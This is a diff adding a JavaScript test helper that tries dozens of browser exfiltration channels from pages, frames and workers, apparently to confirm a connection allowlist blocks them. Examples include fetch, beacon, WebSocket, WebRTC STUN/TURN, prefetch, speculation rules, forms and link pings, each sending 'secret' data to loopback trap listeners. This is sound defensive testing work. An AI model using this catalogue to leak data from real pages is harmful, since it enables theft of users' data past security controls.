@@ -1,0 +1,168 @@
+// Ways out of a page and of a worker, each tried by real code running there,
+// and traps that see what arrives: one port for each way, so that a bare
+// connection can be told to whom it belongs.
+
+import { createSocket } from 'node:dgram';
+import { createServer } from 'node:net';
+
+const SETTLE_MS = 1500;
+
+/** A listener on loopback that tells what reached it; another port is another origin. */
+async function trap(name) {
+  const seen = { name, connections: 0, requests: [] };
+  const sockets = new Set();
+  const tcp = createServer((socket) => {
+    sockets.add(socket);
+    seen.connections++;
+    socket.on('error', () => {});
+    socket.on('data', (data) => {
+      seen.requests.push(String(data).split('\r\n')[0]);
+      socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/html\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok');
+    });
+  });
+  await new Promise((done) => tcp.listen(0, '127.0.0.1', done));
+  const { port } = tcp.address();
+  const udp = createSocket('udp4');
+  udp.on('message', () => { seen.connections++; seen.requests.push('UDP'); });
+  await new Promise((done) => udp.bind(port, '127.0.0.1', done));
+  const close = async () => {
+    for (const socket of sockets) socket.destroy();
+    await Promise.all([new Promise((done) => tcp.close(done)), new Promise((done) => udp.close(done))]);
+  };
+  return { seen, url: `http://127.0.0.1:${port}/leak-${name}?secret=text`, close };
+}
+
+/** What a page could try without a person's doing. Each gets the URL of its trap. */
+export const fromPage = {
+  fetch: (url) => fetch(url),
+  'fetch without CORS': (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: 'text', keepalive: true }),
+  fetchLater: (url) => globalThis.fetchLater?.(url, { activateAfter: 0 }),
+  XMLHttpRequest: (url) => { const x = new XMLHttpRequest(); x.open('POST', url); x.send('text'); },
+  WebSocket: (url) => { new WebSocket(url.replace('http', 'ws')); },
+  EventSource: (url) => { new EventSource(url); },
+  WebTransport: (url) => { const t = new WebTransport(url.replace('http', 'https')); t.ready.catch(() => {}); t.closed.catch(() => {}); },
+  sendBeacon: (url) => { navigator.sendBeacon(url, 'text'); },
+  image: (url) => { new Image().src = url; },
+  'image in a style': (url) => {
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync(`body { background-image: url("${url}") }`);
+    document.adoptedStyleSheets.push(sheet);
+  },
+  font: (url) => { new FontFace('leak', `url("${url}")`).load().catch(() => {}); },
+  video: (url) => { document.body.append(Object.assign(document.createElement('video'), { src: url, preload: 'auto' })); },
+  iframe: (url) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url })); },
+  object: (url) => { document.body.append(Object.assign(document.createElement('object'), { type: 'text/html', data: url })); },
+  'script element': (url) => { document.body.append(Object.assign(document.createElement('script'), { src: url })); },
+  'dynamic import': (url) => import(url),
+  worker: (url) => { new Worker(url); },
+  'shared worker': (url) => { new SharedWorker(url); },
+  'link stylesheet': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url })); },
+  'link preload': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: url })); },
+  'link modulepreload': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: url })); },
+  'link prefetch': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: url })); },
+  'link prerender': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prerender', href: url })); },
+  'link manifest': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: url })); },
+  'link icon': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: url })); },
+  'link preconnect': (url) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: url })); },
+  'speculation rules': (url) => {
+    const script = Object.assign(document.createElement('script'), { type: 'speculationrules' });
+    script.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] });
+    document.head.append(script);
+  },
+  'WebRTC by STUN': async (url) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
+    peer.createDataChannel('leak');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'WebRTC by TURN over TCP': async (url) => {
+    const server = { urls: `turn:${new URL(url).host}?transport=tcp`, username: 'secret', credential: 'text' };
+    const peer = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: 'relay' });
+    peer.createDataChannel('leak');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+  'fetch of an empty frame': (url) => document.body.appendChild(document.createElement('iframe')).contentWindow.fetch(url),
+};
+
+/** Chromium 156 ends a page that tries this under Connection-Allowlist, so that it has one of its own. */
+export const fromFrame = {
+  'WebRTC of an empty frame': async (url) => {
+    const frame = document.body.appendChild(document.createElement('iframe'));
+    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
+    peer.createDataChannel('leak');
+    await peer.setLocalDescription(await peer.createOffer());
+  },
+};
+
+/** What ends the page or opens another: each in a page of its own, after a real click. */
+export const byClick = {
+  form: (url) => {
+    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, method: 'post' }));
+    HTMLFormElement.prototype.submit.call(form);
+  },
+  'form for a new window': (url) => {
+    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: url, target: '_blank' }));
+    HTMLFormElement.prototype.submit.call(form);
+  },
+  'ping of a link': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: '#x', ping: url })).click(); },
+  'window.open': (url) => { open(url); },
+  'link for a new window': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: url, target: '_blank', rel: 'noopener' })).click(); },
+  'link to save': (url) => { document.body.appendChild(Object.assign(document.createElement('a'), { href: url, download: 'x' })).click(); },
+  location: (url) => { location.href = url; },
+  'window.open of this window': (url) => { open(url, '_self'); },
+  'meta refresh': (url) => { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` })); },
+  'location of an empty frame': (url) => {
+    const frame = document.body.appendChild(document.createElement('iframe'));
+    frame.contentWindow.top.location.href = url;
+  },
+};
+
+/** What a dedicated worker could try. */
+export const fromWorker = {
+  fetch: fromPage.fetch,
+  'fetch without CORS': fromPage['fetch without CORS'],
+  XMLHttpRequest: fromPage.XMLHttpRequest,
+  WebSocket: fromPage.WebSocket,
+  EventSource: fromPage.EventSource,
+  WebTransport: fromPage.WebTransport,
+  font: fromPage.font,
+  importScripts: (url) => { importScripts(url); },
+  'dynamic import': fromPage['dynamic import'],
+  'nested worker': fromPage.worker,
+  'cache of the browser': async (url) => { await (await caches.open('leak')).add(url); },
+  WebRTC: fromPage['WebRTC by STUN'],
+};
+
+/** A failure inside is a success here. */
+async function quietly(target, attempt, url) {
+  const source = `(async (url) => { try { await Promise.race([(${attempt})(url), new Promise((done) => setTimeout(done, 500))]); } catch {} })(${JSON.stringify(url)})`;
+  await target.evaluate(source).catch(() => undefined); // the page may be gone
+}
+
+/** Tries all ways in one page or worker; the result tells by name what arrived. */
+export async function tryAll(target, attempts) {
+  const traps = await Promise.all(Object.keys(attempts).map(trap));
+  await Promise.all(traps.map(({ seen, url }) => quietly(target, attempts[seen.name], url)));
+  return collect(traps);
+}
+
+/** Tries each way in a page of its own, inside the handler of a real click. */
+export async function tryByClick(openPage, attempts) {
+  const traps = await Promise.all(Object.keys(attempts).map(trap));
+  await Promise.all(traps.map(async ({ seen, url }) => {
+    const page = await openPage();
+    page.on('crash', () => seen.requests.push('the page has crashed'));
+    await page.evaluate(`document.body.appendChild(Object.assign(document.createElement('button'), { id: 'leak', onclick: () => {
+      try { (${attempts[seen.name]})(${JSON.stringify(url)}); } catch {}
+    } })); document.querySelector('#leak').style.cssText = 'position:fixed;inset:0;z-index:99'`);
+    await page.click('#leak', { noWaitAfter: true });
+  }));
+  return collect(traps);
+}
+
+async function collect(traps) {
+  await new Promise((done) => setTimeout(done, SETTLE_MS));
+  const arrived = Object.fromEntries(traps.filter(({ seen }) => seen.connections + seen.requests.length > 0)
+    .map(({ seen }) => [seen.name, seen.requests[0] ?? 'connection']));
+  await Promise.all(traps.map(({ close }) => close()));
+  return arrived;
+}
